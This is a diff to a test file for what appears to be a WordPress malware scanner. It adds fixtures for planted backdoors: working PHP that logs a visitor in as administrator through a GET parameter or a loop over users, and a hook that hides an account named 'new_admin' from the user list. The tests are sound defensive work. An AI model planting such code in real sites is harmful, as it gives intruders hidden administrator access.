@@ -4,7 +4,11 @@
  * not one.
  */
 import { describe, expect, it } from 'vitest';
-import { addsFixedAdministrator } from '../../src/findings/web-shell/planted-accounts.js';
+import {
+  addsFixedAdministrator,
+  hidesUserFromList,
+  logsInAsAdministrator,
+} from '../../src/findings/web-shell/planted-accounts.js';
 import { topFinding } from '../support/top-finding.js';
 
 describe('administrators planted with fixed credentials', () => {
@@ -83,5 +87,53 @@ update_user_meta($id, 'wp_capabilities', array('administrator' => true));
 `;
     expect(addsFixedAdministrator(installer)).toBe(false);
     expect(addsFixedAdministrator(form)).toBe(false);
+  });
+
+  it('ranks a page logging its visitor in as an administrator without a password critical', () => {
+    const named = `<?php
+function work_1() {
+  if (!isset($_GET['log-me-in'])) return;
+  $user = get_user_by('login', 'admin');
+  wp_set_current_user($user->ID);
+  wp_set_auth_cookie($user->ID);
+  wp_safe_redirect(user_admin_url());
+}
+add_action('init', 'work_1');`;
+    expect(topFinding('/var/www/html/wp-content/mu-plugins/x.php', named)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/logs its visitor into WordPress as an administrator/),
+    });
+    // The first administrator found among the users.
+    const first = `<?php foreach ($wpdb->get_results("SELECT ID FROM $wpdb->users") as $u) {
+  if (user_can($u->ID, 'administrator')) { wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } }`;
+    expect(logsInAsAdministrator(first)).toBe(true);
+    // Logins of a site's own: after a password, a token or a nonce is checked, a user
+    // switcher for those who may act for others, a social login by the address it was
+    // given, and pluggable.php's definition.
+    for (const own of [
+      `<?php $u = wp_authenticate($login, $pass); if (!is_wp_error($u)) wp_set_auth_cookie($u->ID); $r = get_users(['role' => 'administrator']);`,
+      `<?php if (!hash_equals(get_user_meta($id, 'magic', true), $_GET['t'])) exit; $u = get_user_by('id', 1); wp_set_auth_cookie($u->ID);`,
+      `<?php check_admin_referer('switch'); if (user_can($old, 'administrator')) wp_set_auth_cookie($target->ID);`,
+      `<?php $user = get_user_by('email', $profile->email); wp_set_auth_cookie($user->ID);`,
+      `<?php function wp_set_auth_cookie($user_id, $remember = false) { $u = get_user_by('login', 'x'); }`,
+    ])
+      expect(logsInAsAdministrator(own)).toBe(false);
+  });
+
+  it("ranks a page hiding an account from WordPress's list of users critical", () => {
+    const hider = `<?php add_action('pre_user_query', 'dt_pre_user_query');
+function dt_pre_user_query($s) { global $wpdb;
+  $s->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'new_admin'", $s->query_where); }`;
+    expect(topFinding('/var/www/html/wp-content/themes/t/functions.php', hider)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/hides an account it names/),
+    });
+    // A user query narrowed by role, and a login compared outside a user query.
+    expect(
+      hidesUserFromList(
+        `<?php add_action('pre_user_query', function ($q) { $q->query_where .= " AND role = 'editor'"; });`,
+      ),
+    ).toBe(false);
+    expect(hidesUserFromList(`<?php if ($u->user_login != 'admin') echo 'hi';`)).toBe(false);
   });
 });
